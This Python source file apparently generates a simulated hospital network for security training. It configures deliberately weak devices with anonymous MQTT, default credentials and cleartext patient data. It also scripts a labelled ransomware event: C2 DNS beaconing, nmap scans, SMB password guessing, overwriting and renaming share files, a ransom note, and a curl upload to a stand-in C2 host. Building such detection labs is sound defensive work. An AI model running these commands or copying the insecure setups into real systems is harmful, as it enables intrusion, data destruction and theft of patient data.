    h.service(47808, "bacnet", "udp", software="npm bacstack", weak=["bacnet-no-auth"], device_id=h.bacnet_id)
    h.shows("bacnet object properties", "manufacturer", "model", "software")
    if "tftp" in h.faults:
        d = os.path.join(h.dir, "tftp")
        os.makedirs(d)
        os.chmod(d, 0o755)
        open(d + "/config.txt", "w").write("; %s %s %s\nuser=admin\n" % (h.maker, h.model, h.serial) * 20)
        h.daemon("tftpd", ["in.tftpd", "-L", "-4", "-s", "-u", "root", "-a", "0.0.0.0:69", d], [("udp", 69)])
        h.service(69, "tftp", "udp", software="tftpd-hpa", weak=["tftp"])


# ---------------------------------------------------------------- virtual ward
def vw_platform(L, h):
    c = h.cert(key="rsa")
    conf = h.file("mosquitto.conf", "per_listener_settings true\nuser root\npersistence false\nlog_type none\nlistener 8883\nallow_anonymous true\ncertfile %s\nkeyfile %s\ntls_version tlsv1.2\nlistener 1883\nallow_anonymous true\n" % (c["crt"], c["key"]))
    h.daemon("mosquitto", ["mosquitto", "-c", conf], [("tcp", 8883), ("tcp", 1883)])
    h.service(8883, "mqtts", software="mosquitto", tls={"offered": ["TLSv1.2", "TLSv1.3"], "certificate": c["info"]})
    h.service(1883, "mqtt", software="mosquitto", weak=["mqtt-cleartext"])
    fh = h.json("fhir.json", {"bind": "127.0.0.1", "port": 8080, "software": "VirtualWard", "version": "3.4", "patients": [fhir_patient(p) for p in L.patients[:5]]})
    h.daemon("fhir", ["/usr/bin/python3", L.parts + "/fhir_server.py", fh], [("tcp", 8080)])
    h.https(443, title="Virtual ward", proxy=8080, app="fhir-https")
    base(L, h, log=True)


def wearable(L, h):
    vp, cloud = L.one("vw-platform"), L.one("cloud-fhir")
    i = L.get(h.id).index(h)
    p = L.patients[i % len(L.patients)]
    cfg = h.config_name or "mqtts"
    who = {"device": {"manufacturer": h.maker, "model": h.model, "serial": h.serial, "fw": h.sw}}
    pt = {"patient": {"nhs": p["nhs"], "name": "%s %s" % (p["given"], p["family"]), "dob": p["dob_iso"]}}
    vit = '"hr": @{r:55:110}, "spo2": @{r:91:100}, "rr": @{r:10:24}, "temp": @{f:36:39}, "at": "@{iso}"'
    topic = "vward/%s/%s/vitals" % (L.facility.lower(), h.serial)
    if cfg in ("mqtts", "mqtt-clear"):
        body = "{%s, %s}" % (json.dumps(dict(who, **(pt if cfg == "mqtt-clear" else {"ref": "vw-%04d" % (i + 1)})))[1:-1], vit)
        if cfg == "mqtts":
            a = ["mosquitto_pub", "-h", vp.ip, "-p", "8883", "--cafile", L._ca[0], "--insecure", "-i", "gw-" + h.serial, "-t", topic, "-l", "-q", "1"]
        else:
            a = ["mosquitto_pub", "-h", vp.ip, "-p", "1883", "-i", "gw-" + h.serial, "-u", "gw" + h.serial[-4:], "-P", "telemetry1", "-t", topic, "-l", "-q", "1"]
        if cfg == "mqtts" and h.maker in ("Withings", "Nonin Medical"):
            a += ["--tls-version", "tlsv1.2"]
        h.act("vitals", a, first=h.rng.uniform(1, 5), timeout=L.seconds + 20, feed={"lines": [body], "every": 5})
        if cfg == "mqtts":
            h.talk(vp, 8883, "mqtts", tls="TLS", phi=False)
        else:
            h.talk(vp, 1883, "mqtt", phi=True, weak=["mqtt-cleartext-phi", "cleartext-credentials"])
            h.shows("mqtt payload", "manufacturer", "model", "serial", "software")
    else:
        o = {"resourceType": "Observation", "status": "final", "category": [{"coding": [{"system": "http://terminology.hl7.org/CodeSystem/observation-category", "code": "vital-signs"}]}], "code": {"coding": [{"system": "http://loinc.org", "code": "59408-5", "display": "Oxygen saturation"}]},
             "subject": {"identifier": {"system": "https://fhir.nhs.uk/Id/nhs-number", "value": p["nhs"]}, "display": "%s %s" % (p["given"], p["family"])} if cfg == "fhir-clear" else {"reference": "Patient/vw-%04d" % (i + 1)},
             "device": {"display": "%s %s" % (h.maker, h.model), "identifier": {"value": h.serial}}, "valueQuantity": {"value": 97, "unit": "%", "system": "http://unitsofmeasure.org", "code": "%"}}
        body = json.dumps(o).replace('"value": 97', '"value": @{r:91:100}')
        clear = cfg == "fhir-clear"
        h.curl("fhir", cloud, "%s://%s/fhir/Observation" % ("http" if clear else "https", cloud.fqdn), every=7, args=["-X", "POST", "-H", "Content-Type: application/fhir+json"], stdin=body, ua="%s/%s" % (h.model.replace(" ", ""), h.sw), app="fhir-http" if clear else "fhir-https",
               phi=True, weak=["fhir-cleartext-phi", "phi-to-external-cleartext"] if clear else [])
        if clear:
            h.shows("fhir Device, User-Agent", "manufacturer", "model", "serial", "software")
    h.outbound.append(cfg)
    if i % 3 == 0 and L.one("core"):
        base(L, h)


def cloud_fhir(L, h):
    fh = h.json("fhir.json", {"bind": "127.0.0.1", "port": 8080, "software": "CloudFHIR", "version": "2025.2"})
    h.daemon("fhir", ["/usr/bin/python3", L.parts + "/fhir_server.py", fh], [("tcp", 8080)])
    h.https(443, title="Cloud FHIR", proxy=8080, app="fhir-https", server="cloudfront")
    f2 = h.json("fhir80.json", {"bind": "0.0.0.0", "port": 80, "server": "Kestrel", "software": "CloudFHIR"})
    h.daemon("fhir80", ["/usr/bin/python3", L.parts + "/fhir_server.py", f2], [("tcp", 80)])
    h.service(80, "fhir-http", software="Python http.server")


def ai_cloud(L, h):
    fh = h.json("ai.json", {"bind": "127.0.0.1", "port": 8080, "server": "uvicorn", "predict": "deterioration-v4"})
    h.daemon("ai", ["/usr/bin/python3", L.parts + "/fhir_server.py", fh], [("tcp", 8080)])
    h.https(443, title="AI", proxy=8080, app="ai-https", server="uvicorn")
    f2 = h.json("ai80.json", {"bind": "0.0.0.0", "port": 8000, "server": "uvicorn", "predict": "deterioration-v4"})
    h.daemon("ai8000", ["/usr/bin/python3", L.parts + "/fhir_server.py", f2], [("tcp", 8000)])
    h.service(8000, "ai-http", software="Python http.server")


def ai_connector(L, h):
    """Inside: subscribes to the ward's telemetry and asks the AI service. One of them leaks."""
    ai, vp, e = L.one("ai-cloud"), L.one("vw-platform"), L.one("epr")
    p = L.patients[2]
    leak = "ai-leak" in h.faults
    if vp:
        h.act("sub", ["mosquitto_sub", "-h", vp.ip, "-p", "8883", "--cafile", L._ca[0], "--insecure", "-i", h.name, "-t", "vward/#"], first=.5, timeout=L.seconds + 20)
        h.talk(vp, 8883, "mqtts", tls="TLS", phi=True)
    feats = '"features": {"hr": @{r:60:120}, "spo2": @{r:88:100}, "rr": @{r:10:28}}'
    if leak:
        bodies = ['{"model": "deterioration-v4", "patient": {"nhs": "%s", "name": "%s %s", "dob": "%s", "postcode": "ZZ99 3AA"}, %s}' % (q["nhs"], q["given"], q["family"], q["dob_iso"], feats) for q in L.patients[:4]]
        t = h.curl("ask-ai", ai, "http://%s:8000/v1/predict" % ai.fqdn, every=6, args=["-X", "POST", "-H", "Content-Type: application/json"], stdin=bodies, ua="vw-ai-connector/1.3", app="ai-http", phi=True, weak=["phi-to-external-cleartext"])
        L.problem("ai-service-leak", "an AI decision-support service outside the organisation is sent names and NHS numbers over HTTP", "critical", [h, ai], [{"a": h.ip, "b": ai.ip, "port": 8000, "proto": "tcp"}])
    else:
        h.curl("ask-ai", ai, "https://%s/v1/predict" % ai.fqdn, every=6, args=["-X", "POST", "-H", "Content-Type: application/json"], stdin='{"model": "deterioration-v4", "ref": "vw-@{r:1:9}", %s}' % feats, ua="vw-ai-connector/1.4", app="ai-https", phi=False)
    if e:
        h.curl("epr", e, "https://%s/fhir/Patient/%s" % (e.fqdn, p["id"]), every=12, ua="vw-ai-connector/1.4", phi=True, app="fhir-https")
    base(L, h)


# ---------------------------------------------------------------- ordinary IT
def web(L, h):
    h.https(443, title=h.spec["fqdn"], server=h.rng.choice(["nginx", "Apache", "cloudflare"]), tmin="TLSv1.2")
    h.http(80, title=h.spec["fqdn"], server="nginx", weak=[], shows=False)


def workstation(L, h):
    webs = L.get("web1") + L.get("web2") + L.get("web3")
    ua = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36 Edg/126.0.0.0"
    for w in webs[: 2 + h.rng.randrange(2)]:
        h.curl("web", w, "https://%s/" % w.fqdn, every=13, ua=ua)
    if webs and not L.opt("hardened"):
        h.curl("http", webs[-1], "http://%s/" % webs[-1].fqdn, every=19, ua=ua)
    e = L.one("epr")
    if e:
        h.curl("epr", e, "https://%s/fhir/Patient" % e.fqdn, every=12, ua=ua, phi=True, app="fhir-https")
    vp = L.one("vw-platform")
    if vp:
        h.curl("vward", vp, "https://%s/fhir/Patient" % vp.fqdn, every=14, ua=ua, phi=True, app="fhir-https")
    fs = L.one("fileserver")
    if fs:
        h.act("files", ["smbclient", "//%s/shared" % fs.ip, "-U", "staff%Ward-Rota-25", "-m", "SMB3", "-p", "445", "-c", "ls; put %s note-@{w:6}.txt" % h.file("note.txt", "Rota note. " * 40)], every=18)
        h.talk(fs, 445, "smb")
    pr = [p for p in L.get("printer")]
    if pr:
        p = pr[L.get(h.id).index(h) % len(pr)]
        tst = h.file("print.test", '{ NAME "Print" OPERATION Print-Job GROUP operation-attributes-tag ATTR charset attributes-charset utf-8 ATTR language attributes-natural-language en ATTR uri printer-uri $uri ATTR name requesting-user-name "%s" ATTR name job-name "clinic list" ATTR mimeMediaType document-format application/pdf FILE %s STATUS successful-ok }\n' % (h.name, h.file("doc.pdf", "%PDF-1.4\n" + "% Clinic list (synthetic)\n" * 60)))
        h.act("print", ["ipptool", "-T", "6", "ipp://%s:631/ipp/print" % p.ip, tst], every=20)
        h.talk(p, 631, "ipp", weak=["ipp-cleartext"])
    if not L.opt("hardened") and L.get(h.id).index(h) % 2 == 0:
        h.daemon("wsdd", ["wsdd", "-4", "-i", "eth0", "-n", h.name.upper(), "-w", "HOSPITAL"], [])
        h.service(3702, "ws-discovery", "udp", software="wsdd", note="an ordinary computer's Web Services Discovery, not a medical device")
    ld = L.one("directory")
    if ld:
        i = L.get(h.id).index(h)
        if i % 2 and h.id == "workstation":
            h.act("ldap", ["ldapsearch", "-x", "-H", "ldap://%s" % ld.ip, "-D", "cn=svc,dc=hospital,dc=test", "-w", "Summer2024", "-b", "dc=hospital,dc=test", "(uid=u@{r:1:9})"], every=15, env={"LDAPTLS_REQCERT": "never"})
            h.talk(ld, 389, "ldap", weak=["ldap-cleartext-bind"])
        else:
            h.act("ldaps", ["ldapsearch", "-x", "-H", "ldaps://%s" % ld.ip, "-D", "cn=svc,dc=hospital,dc=test", "-w", "Summer2024", "-b", "dc=hospital,dc=test", "(uid=u@{r:1:9})"], every=15, env={"LDAPTLS_REQCERT": "never"})
            h.talk(ld, 636, "ldaps", tls="TLS")
    base(L, h)


def guest(L, h):
    webs = L.get("web1") + L.get("web2") + L.get("web3")
    for w in webs:
        h.curl("web", w, "https://%s/" % w.fqdn, every=9, ua="Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15")


def fileserver(L, h):
    h.smb("SMB2", "SMB3", shares=(("shared", False), ("dept", False)), user=("staff", "Ward-Rota-25"), files=70)
    base(L, h)


def directory(L, h):
    d = os.path.join(h.dir, "ldap")
    os.makedirs(d)
    c = h.cert(key="rsa")
    conf = h.file("slapd.conf", "modulepath /usr/lib/ldap\nmoduleload back_mdb\ninclude /etc/ldap/schema/core.schema\ninclude /etc/ldap/schema/cosine.schema\ninclude /etc/ldap/schema/inetorgperson.schema\npidfile %s/pid\nTLSCertificateFile %s\nTLSCertificateKeyFile %s\ndatabase mdb\nmaxsize 10485760\nsuffix dc=hospital,dc=test\nrootdn cn=svc,dc=hospital,dc=test\nrootpw Summer2024\ndirectory %s\n" % (d, c["crt"], c["key"], d))
    ldif = h.file("init.ldif", "dn: dc=hospital,dc=test\nobjectClass: dcObject\nobjectClass: organization\no: Hospital\ndc: hospital\n\n" + "".join("dn: uid=u%d,dc=hospital,dc=test\nobjectClass: inetOrgPerson\nuid: u%d\ncn: User %d\nsn: Staff%d\nmail: u%d@%s\n\n" % (i, i, i, i, i, L.domain) for i in range(1, 10)))
    h.daemon("slapd", ["slapd", "-d", "0", "-f", conf, "-h", "ldap://0.0.0.0:389 ldaps://0.0.0.0:636"], [("tcp", 389), ("tcp", 636)], pre=[["slapadd", "-f", conf, "-l", ldif]])
    h.service(389, "ldap", software="OpenLDAP slapd", weak=["ldap-cleartext-bind"])
    h.service(636, "ldaps", software="OpenLDAP slapd", tls={"offered": ["TLSv1.2", "TLSv1.3"], "certificate": c["info"]})
    base(L, h)


def printer(L, h):
    h.mdns([("%s %s web" % (h.maker, h.model), "_http._tcp", 80, []), ("%s %s" % (h.maker, h.model), "_pdl-datastream._tcp", 9100, ["ty=%s %s" % (h.maker, h.model), "note=%s" % h.area_name])], dbus=True)
    h.ipp()
    h.http(80)
    h.snmp(("1", "2c"))


def camera(L, h):
    h.http(80, auth=("root", "pass"))
    h.mdns([("%s %s - %s" % (h.maker, h.model, h.mac.replace(":", "").upper()), "_http._tcp", 80, ["macaddress=%s" % h.mac.replace(":", "").upper()])])


def bed(L, h):
    h.http(80)
    base(L, h, log=True)


def term(L, h):
    d = os.path.join(h.dir, "xrdp")
    os.makedirs(d)
    sec = h.config_name or "rdp"
    c = h.cert("self", "rsa")
    if not os.path.exists("/etc/xrdp/rsakeys.ini"):
        pass
    rk = os.path.join(d, "rsakeys.ini")
    L.sh(["xrdp-keygen", "xrdp", rk])
    ini = open("/etc/xrdp/xrdp.ini").read()
    import re as _re
    ini = _re.sub(r"(?m)^security_layer=.*$", "security_layer=" + sec, ini)
    ini = _re.sub(r"(?m)^certificate=.*$", "certificate=" + c["crt"], ini)
    ini = _re.sub(r"(?m)^key_file=.*$", "key_file=" + c["key"], ini)
    ini = _re.sub(r"(?m)^crypt_level=.*$", "crypt_level=low", ini)
    ini = _re.sub(r"(?m)^LogFile=.*$", "LogFile=%s/xrdp.log" % d, ini)
    for f in os.listdir("/etc/xrdp"):
        s = os.path.join("/etc/xrdp", f)
        if os.path.isfile(s) and f not in ("rsakeys.ini", "xrdp.ini", "key.pem", "cert.pem"):
            open(os.path.join(d, f), "wb").write(open(s, "rb").read())
    open(d + "/xrdp.ini", "w").write(ini)
    h.bind.append((d, "/etc/xrdp"))
    h.mkdir_.append("/run/xrdp")
    h.daemon("xrdp", ["xrdp", "--nodaemon"], [("tcp", 3389)])
    h.service(3389, "rdp", software="xrdp", tls=None if sec == "rdp" else {"offered": ["TLSv1.2", "TLSv1.3"], "certificate": c["info"]}, weak=["rdp-standard-security"] if sec == "rdp" else c["weak"])
    ws = [w for w in L.get("workstation")][:1]
    for w in ws:
        if "/tmp/.X11-unix" not in w.tmpfs:
            w.tmpfs.append("/tmp/.X11-unix")
            w.daemon("xvfb", ["Xvfb", ":91", "-nolock", "-screen", "0", "640x480x16", "-nolisten", "tcp"], [])
        w.act("rdp", ["xfreerdp", "/v:%s" % h.ip, "/u:clerk", "/p:Clinic-24", "/cert:ignore", "/sec:%s" % sec, "/w:640", "/h:480", "/bpp:16", "/network:lan", "+offscreen-cache", "/log-level:OFF"], every=25, timeout=6, env={"DISPLAY": ":91"}, may_fail=True)
        w.talk(h, 3389, "rdp", tls=None if sec == "rdp" else "TLS", weak=["rdp-standard-security"] if sec == "rdp" else [])
    base(L, h)


def c2dns(L, h):
    w = L.one("c2web") or h
    h.daemon("dnsmasq", ["dnsmasq", "-k", "-C", h.file("dnsmasq.conf", "user=root\nno-resolv\nno-hosts\npid-file=\naddress=/%s/%s\nlog-facility=%s/log\n" % (h.spec["zone"], w.ip, h.dir))], [("udp", 53)])
    h.service(53, "dns", "udp", software="dnsmasq")


def c2web(L, h):
    s = h.json("sink.json", {"bind": "127.0.0.1", "port": 8080, "sink": True})
    h.daemon("sink", ["/usr/bin/python3", L.parts + "/fhir_server.py", s], [("tcp", 8080)])
    h.https(443, title="It works", server="nginx", cert=h.cert("self", "rsa", cn="localhost"), proxy=8080)


# ---------------------------------------------------------------- those who visit every device
def biomed(L, h):
    """The medical-physics laptop: opens every management service the devices offer."""
    skip = {"core", "switch", "server", "workstation", "external", "guest", "biomed-laptop"}
    S = L.seconds
    fac = L.scn.setdefault("_n", [0])
    for x in L.hosts.values():
        if x.type in skip or x.external or x.router:
            continue
        for s in x.services:
            fac[0] += 1
            every = max(18, S * .42)
            if s["app"] == "telnet":
                u, p = s["credentials"]
                sc = h.file("telnet-%s.exp" % x.name, 'set timeout 8\nset send_slow {1 .04}\nspawn telnet %s 23\nexpect -re "ogin:"\nsend -s "%s\\r"\nexpect "assword:"\nsend -s "%s\\r"\nexpect -re "> "\nsend -s "show version\\r"\nexpect -re "> "\nsend -s "status\\r"\nexpect -re "> "\nsend -s "exit\\r"\nexpect eof\n' % (x.ip, u, p))
                h.act("telnet-" + x.name, ["expect", sc], every=every, timeout=25)
                h.talk(x, 23, "telnet", weak=["telnet", "default-credentials"])
            elif s["app"] == "ftp":
                u, p = s["credentials"]
                h.act("ftp-" + x.name, ["lftp", "-u", "%s,%s" % (u, p), "-e", "set ftp:ssl-allow no; set net:timeout 6; set net:max-retries 1; set dns:order inet; set xfer:clobber on; ls; get event.log -o %s; quit" % os.path.join(h.dir, "ftp-" + x.name), x.ip], every=every, timeout=20)
                h.talk(x, 21, "ftp", weak=["ftp-cleartext", "default-credentials"])
            elif s["app"] == "http":
                auth = [w for w in s["weaknesses"] if w == "http-basic-cleartext"]
                cr = s["credentials"] or ("", "")
                h.curl("ui-" + x.name, x, "http://%s:%d/" % (x.ip, s["port"]) if s["port"] != 80 else "http://%s/" % x.ip, every=every, args=["-u", "%s:%s" % tuple(cr)] if auth else [], port=s["port"], weak=["http-cleartext-ui"] + (["http-basic-cleartext"] if auth else []))
            elif s["app"] == "https":
                old = s["tls"]["offered"][-1] == "TLSv1"
                h.curl("uis-" + x.name, x, "https://%s/" % x.ip, every=every, tls="TLSv1" if old else None, weak=["tls1.0"] if old else [])
            elif s["app"] == "ssh":
                h.act("ssh-" + x.name, ["ssh", "-i", L.ssh_key(), "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-o", "LogLevel=ERROR", "-o", "BatchMode=yes", "biomed@" + x.ip, "uptime; cat /proc/version"], every=every)
                h.talk(x, 22, "ssh", tls="SSH")
            elif s["app"] == "smb":
                old = s["dialects"][0] == "NT1"
                h.act("smb-" + x.name, ["smbclient", "//%s/%s" % (x.ip, s["shares"][0]), "-N", "-p", "445", "-m", "NT1" if old else "SMB3", "--option=client min protocol=NT1", "-c", "ls"], every=every)
                h.talk(x, 445, "smb", weak=["smb1"] if old else [])
            elif s["app"] == "vnc":
                h.act("vnc-" + x.name, ["vncsnapshot", "-quiet", x.ip + ":0", os.path.join(h.dir, "shot.jpg")], every=every)
                h.talk(x, 5900, "vnc", weak=["vnc-no-auth"])
            elif s["app"] == "tftp":
                h.act("tftp-" + x.name, ["tftp", "-4", x.ip, "-c", "get", "config.txt", os.path.join(h.dir, "cfg.txt")], every=every)
                h.talk(x, 69, "tftp", "udp", weak=["tftp"])
    base(L, h)


def nms(L, h):
    """Network management: SNMP, ping, and in some scenarios the sanctioned vulnerability scanner."""
    oids = ["1.3.6.1.2.1.1.1.0", "1.3.6.1.2.1.1.5.0", "1.3.6.1.2.1.1.6.0", "1.3.6.1.2.1.1.3.0", "1.3.6.1.2.1.47.1.1.1.1.11.1"]
    for x in L.hosts.values():
        for s in x.services:
            if s["app"] == "snmp":
                if x.snmp_v3:
                    a = ["snmpget", "-v3", "-l", "authPriv", "-u", x.snmp_v3[0], "-a", "SHA", "-A", x.snmp_v3[1], "-x", "AES", "-X", x.snmp_v3[2]]
                else:
                    a = ["snmpget", "-v" + h.rng.choice([v for v in x.snmp_versions]), "-c", "public"]
                h.act("snmp-" + x.name, a + ["-t", "2", "-r", "1", "-On", x.ip] + oids, every=12, env={"MIBS": ""})
                h.talk(x, 161, "snmp", "udp", weak=[] if x.snmp_v3 else ["snmp-public"])
    for x in L.hosts.values():
        if x.type == "server" and not x.external and x is not h:
            for s in x.services:
                if s["app"] in ("https", "fhir-https"):
                    h.curl("up-" + x.name, x, "https://%s/" % x.fqdn, every=25, app=s["app"], ua="uptime-probe/2.4")
    up = [x.ip for x in L.hosts.values() if not x.external and x is not h]
    h.act("ping", argvs=[["ping", "-c", "2", "-i", ".3", "-W", "1", i] for i in h.rng.sample(up, min(12, len(up)))], every=5)
    if L.opt("scanner"):
        t = [x for x in L.hosts.values() if not x.external and not x.router and x is not h and x.type not in ("guest",)][:24]
        a = h.act("scan", ["nmap", "-sT", "-n", "-Pn", "-T4", "--max-retries", "1", "--host-timeout", "15s", "-p", "21,22,23,80,104,443,445,502,3389,5900"] + [x.ip for x in t], first=L.seconds * .12, timeout=60)
        L.harmless("sanctioned-scanner", "the network team's own vulnerability scanner", [h], [{"a": h.ip, "flags": "syn-probe"}], [[h.name, a["label"]]])
    base(L, h)


# ---------------------------------------------------------------- planted events
def ev_ransomware(L, ev):
    S = L.seconds
    cand = L.get(ev.get("from", "reporting")) or L.get("workstation")
    a = L.rng.choice(cand)
    lis, fs, an = L.one("lis"), L.one("fileserver"), L.get("analyser")
    c2, c2w, core_ = L.one("c2dns"), L.one("c2web"), L.one("core")
    t = lambda f: S * f
    made = []

    def step(label, argv, first, **k):
        x = a.act(label, argv, first=first, **k)
        made.append([a.name, x["label"]])
        return [a.name, x["label"]]
    z = c2.spec["zone"]
    b = step("beacon", ["dig", "+tries=1", "+time=2", "@" + core_.ip, "@{w:32}.@{w:12}." + z, "A"], t(.30), every=2.6, jitter=.06)
    P = lambda *x, **k: L.problem(*x, **dict(k, event="ransomware"))
    P("dns-beacon", "regular DNS queries for long random names under one outside domain", "high", [a, c2], [{"a": a.ip, "b": core_.ip, "port": 53, "proto": "udp", "after": .28}, {"a": core_.ip, "b": c2.ip, "port": 53, "proto": "udp"}], [b], domain=z)
    net = a.ip.rsplit(".", 1)[0]
    lo = int(a.ip.rsplit(".", 1)[1]) & 0xE0
    sw = step("sweep", ["nmap", "-sn", "-n", "-T4", "--max-retries", "0", "%s.%d/27" % (net, lo)], t(.36), timeout=20)
    targets = [x for x in [lis, fs, L.one("middleware"), L.one("epr"), L.one("pacs")] + an + L.get("fridge") if x]
    sc = step("scan", ["nmap", "-sS", "-n", "-Pn", "-T4", "--max-retries", "0", "--host-timeout", "12s", "-p", "21-25,80,88,102,104,110,111,135,139,389,443,445,502,515,554,631,993,1433,1521,2575,2580,3001,3306,3389,4000,4001,5432,5900,5985,6661,8042,8080,8443,9100,11112,47808"] + [x.ip for x in targets], t(.42), timeout=40)
    P("port-scan", "one workstation probes many ports on many hosts", "high", [a] + targets, [{"a": a.ip, "flags": "syn-probe", "after": .35}], [sw, sc])
    wrong = [["smbclient", "//%s/%s" % (x.ip, sh), "-U", "%s%%%s" % (u, w), "-m", "SMB3", "-p", "445", "-c", "ls"] for x, sh, u in ([(fs, "shared", "staff")] if fs else []) + [(lis, "LISdata", "svc_lis")] for w in ("Password1", "Welcome1", "Summer2024", "Hospital1", "letmein", "Passw0rd", "Qwerty123", "Autumn25")]
    br = step("brute", None, t(.52), argvs=wrong, every=.25, count=len(wrong), jitter=.1, may_fail=True)
    P("smb-password-guessing", "many failed SMB log-ons from one host", "high", [a, lis] + ([fs] if fs else []), [{"a": a.ip, "b": x.ip, "port": 445, "proto": "tcp", "labels": True} for x in [lis, fs] if x], [br])
    enc = a.file("enc.bin", os.urandom(9000))
    rn = []
    for x, sh, u in ([(fs, "shared", "staff%Ward-Rota-25")] if fs else []) + [(lis, "LISdata", "svc_lis%Pathology1")]:
        files = sorted(os.listdir(os.path.join(x.dir, "share-" + sh)))
        s = "".join('put %s %s\nrename %s %s.lck7\n' % (enc, f, f, f) for f in files) + "put %s READ_ME_RESTORE.txt\nquit\n" % a.file("ransom.txt", "Your files are locked. (synthetic lab text)\n")
        rn.append(step("encrypt-" + x.name, ["smbclient", "//%s/%s" % (x.ip, sh), "-U", u, "-m", "SMB3", "-p", "445"], t(.66 if x is fs else .74), stdin=s, timeout=40))
        a.talk(x, 445, "smb")
    P("mass-file-change", "one host overwrites and renames every file on shares", "critical", [a, lis] + ([fs] if fs else []), [{"a": a.ip, "b": x.ip, "port": 445, "proto": "tcp", "labels": True} for x in [lis, fs] if x], rn)
    if c2w:
        blob = a.file("out.bin", os.urandom(800000))
        ex = step("exfil", ["curl", "-s", "-k", "-o", "/dev/null", "--max-time", "20", "--data-binary", "@" + blob, "--resolve", "files.%s:443:%s" % (z, c2w.ip), "https://files.%s/u" % z], t(.60), timeout=25)
        P("bulk-upload", "a large upload from a workstation to an unknown outside host", "high", [a, c2w], [{"a": a.ip, "b": c2w.ip, "port": 443, "proto": "tcp"}], [ex])
    k = lis.act("lis-stop", None, first=t(.80), kill="mllp2580")
    mw = L.one("middleware")
    P("service-stopped", "the LIS interface stops answering: results are refused", "critical", [lis, mw], [{"a": mw.ip, "b": lis.ip, "port": 2580, "proto": "tcp", "after": .79}], [[lis.name, k["label"]]])
    a.talk(core_, 53, "dns", "udp")
    a.compromised = True


def ev_archive(L, ev):
    """Harmless: an office application that saves through temporary names, as many do."""
    fs = L.one("fileserver")
    c = [w for w in L.get("workstation") if not getattr(w, "compromised", False)]
    if not fs or not c:
        return
    w = L.rng.choice(c)
    doc = w.file("scan.pdf", "%PDF-1.4 synthetic scan\n" * 200)
    s = "".join("put %s ~scan%02d.tmp\nrename ~scan%02d.tmp scan%02d.pdf\n" % (doc, i, i, i) for i in range(14)) + "quit\n"
    a = w.act("archive", ["smbclient", "//%s/dept" % fs.ip, "-U", "staff%Ward-Rota-25", "-m", "SMB3", "-p", "445"], first=L.seconds * .25, stdin=s, timeout=30)
    L.harmless("document-archiving", "scanned letters saved under temporary names, then renamed", [w, fs], [{"a": w.ip, "b": fs.ip, "port": 445, "proto": "tcp", "labels": True}], [[w.name, a["label"]]])


EVENTS = {"ransomware": ev_ransomware, "archive": ev_archive}


# ---------------------------------------------------------------- standing findings
def finish(L):
    for x in L.hosts.values():
        if x.external or x.router:
            continue
        for s in x.services:
            for w in s["weaknesses"]:
                sev, title = WEAK[w]
                L.problem("service:" + w, title, sev, [x], [{"server": x.ip, "port": s["port"], "proto": s["proto"]}], port=s["port"], app=s["app"])
    for x in L.hosts.values():
        for t in x.talks:
            for w in t["weaknesses"]:
                if w in ("hl7-cleartext-phi", "dicom-cleartext-phi", "astm-cleartext-phi", "poct1a-cleartext-phi", "intellivue-cleartext-phi", "sdc-cleartext-phi", "fhir-cleartext-phi", "mqtt-cleartext-phi", "db-cleartext-phi", "dicomweb-cleartext-phi", "phi-to-external-cleartext", "cleartext-credentials"):
                    sev, title = WEAK[w]
                    L.problem("flow:" + w, title, sev, [x, t["host"]], [{"a": x.ip, "b": t["host"].ip, "port": t["port"], "proto": t["proto"]}], port=t["port"], app=t["app"])


PROFILES = {"router": router, "core": core, "epr": epr, "tie": tie, "gateway": gateway, "pump": pump, "monitor-hl7": monitor_hl7, "monitor-iv": monitor_iv, "central": central, "sdc": sdc, "modality": modality, "pacs": pacs,
            "ris": ris, "radws": radws, "research": research, "analyser": analyser, "poct": poct, "middleware": middleware, "lis": lis, "reporting": reporting, "fridge": fridge, "fridge-monitor": fridge_monitor, "bms": bms,
            "vw-platform": vw_platform, "wearable": wearable, "cloud-fhir": cloud_fhir, "ai-cloud": ai_cloud, "ai-connector": ai_connector, "web": web, "workstation": workstation, "guest": guest, "fileserver": fileserver,
            "directory": directory, "printer": printer, "camera": camera, "bed": bed, "term": term, "c2dns": c2dns, "c2web": c2web, "biomed": biomed, "nms": nms}
